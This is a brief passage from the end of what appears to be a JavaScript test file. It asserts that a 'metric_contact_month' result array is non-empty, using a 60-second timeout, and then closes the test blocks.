      const total = parallel.metric_contact_month?.length ?? 0;
      expect(total).toBeGreaterThan(0);
    }, 60_000);
  });
});
